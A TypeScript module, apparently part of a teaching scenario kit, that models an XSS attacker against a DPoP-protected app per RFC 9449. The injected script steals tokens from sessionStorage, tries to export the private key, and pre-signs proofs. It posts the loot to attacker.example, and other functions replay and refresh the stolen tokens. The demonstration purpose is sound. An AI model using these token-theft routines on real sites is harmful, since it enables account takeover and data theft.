/** The attacker: a script that got into the app’s page, and a server that uses what the script sends (RFC 9449 §11.4). */
import { type HttpHandler, json, parseForm } from '../../http/index.ts'
import { createKey, signProof } from '../../scenario-kit/client-code/dpop-proof.ts'
import type { OwnComputer } from '../../scenario-kit/parties/thief.ts'
import type { PageScript } from './client.ts'

/** URL origin of the attacker. */
export const ATTACKER = 'https://attacker.example'

/** How far ahead the script dates a proof, in seconds: until then the person may have closed the page. */
const AHEAD_SECONDS = 240

/** What the attacker has got hold of. */
export interface Loot {
  readonly access_token: string
  readonly token_type: string
  readonly refresh_token?: string
  /** Proofs that the script made in the page, separated by spaces. */
  readonly proofs?: string
  /** The private key, or why the browser does not give it away. */
  readonly key?: string
}

/** The injected script: copies the tokens, and the key if it can. */
export async function stealTokens({ crypto, fetch, idb, sessionStorage }: PageScript): Promise<void> {
  // #region injected-script
  const { access_token, token_type, refresh_token } = JSON.parse(sessionStorage.getItem('tokens') ?? '{}')
  const keys = await idb.get('dpop-key')
  const key = keys
    ? await crypto.subtle.exportKey('jwk', keys.privateKey).then(JSON.stringify, () => 'not extractable')
    : 'none'
  await fetch(`${ATTACKER}/collect`, {
    method: 'POST',
    body: new URLSearchParams({ access_token, token_type, refresh_token, key }),
  })
  // #endregion
}

/** The injected script: it cannot take the key away, so it signs with it, for now and for later. */
export async function makeProofs(script: PageScript, api: string): Promise<void> {
  const { fetch, sessionStorage } = script
  // #region injected-script
  const { access_token, token_type } = JSON.parse(sessionStorage.getItem('tokens') ?? '{}')
  const url = `${api}/photos`
  // Where the API hands out nonces, it does so with every answer.
  const nonce = (await fetch(url)).headers.get('dpop-nonce') ?? undefined
  const proofs: string[] = []
  for (const ahead of [0, AHEAD_SECONDS]) {
    const at = { ...script, Date: { now: () => script.Date.now() + ahead * 1000 } }
    proofs.push(await signProof(at, { method: 'GET', url, access_token, nonce }))
  }
  await fetch(`${ATTACKER}/collect`, {
    method: 'POST',
    body: new URLSearchParams({ access_token, token_type, proofs: proofs.join(' ') }),
  })
  // #endregion
}

/** The attacker's server: keeps what scripts send. */
export function createAttacker(keep: (loot: Loot) => void): HttpHandler {
  return async ({ body }) => {
    const { access_token = '', token_type = '', ...rest } = Object.fromEntries(parseForm(body))
    keep({ access_token, token_type, ...rest })
    // Any page may send: the injected script runs in somebody else’s.
    return json(200, {}, [['access-control-allow-origin', '*']])
  }
}

/** Reads the photos with the stolen token; with a stolen proof where there is one, else with one of the attacker's own key. */
export async function readPhotos(own: OwnComputer, api: string, loot: Loot, stolenProof?: string): Promise<string> {
  // #region stolen-call
  const url = `${api}/photos`
  const { access_token, token_type } = loot
  const proof = stolenProof ?? (await ownProof(own, { method: 'GET', url, access_token }))
  const response = await own.fetch(url, {
    headers: { authorization: `${token_type} ${access_token}`, ...(token_type === 'DPoP' && { dpop: proof }) },
  })
  return response.text()
  // #endregion
}

/** Refreshes as the app would: a public client has no secret that the attacker would have to know. */
export async function refreshStolen(
  own: OwnComputer,
  { token_endpoint, client_id }: { readonly token_endpoint: string; readonly client_id: string },
  loot: Loot,
): Promise<string> {
  // #region stolen-refresh
  const proof = await ownProof(own, { method: 'POST', url: token_endpoint })
  const response = await own.fetch(token_endpoint, {
    method: 'POST',
    headers: loot.token_type === 'DPoP' ? { dpop: proof } : {},
    body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: loot.refresh_token ?? '', client_id }),
  })
  return response.text()
  // #endregion
}

async function ownProof(own: OwnComputer, target: Parameters<typeof signProof>[1]): Promise<string> {
  if ((await own.idb.get('dpop-key')) === undefined) await createKey(own)
  return signProof(own, target)
}
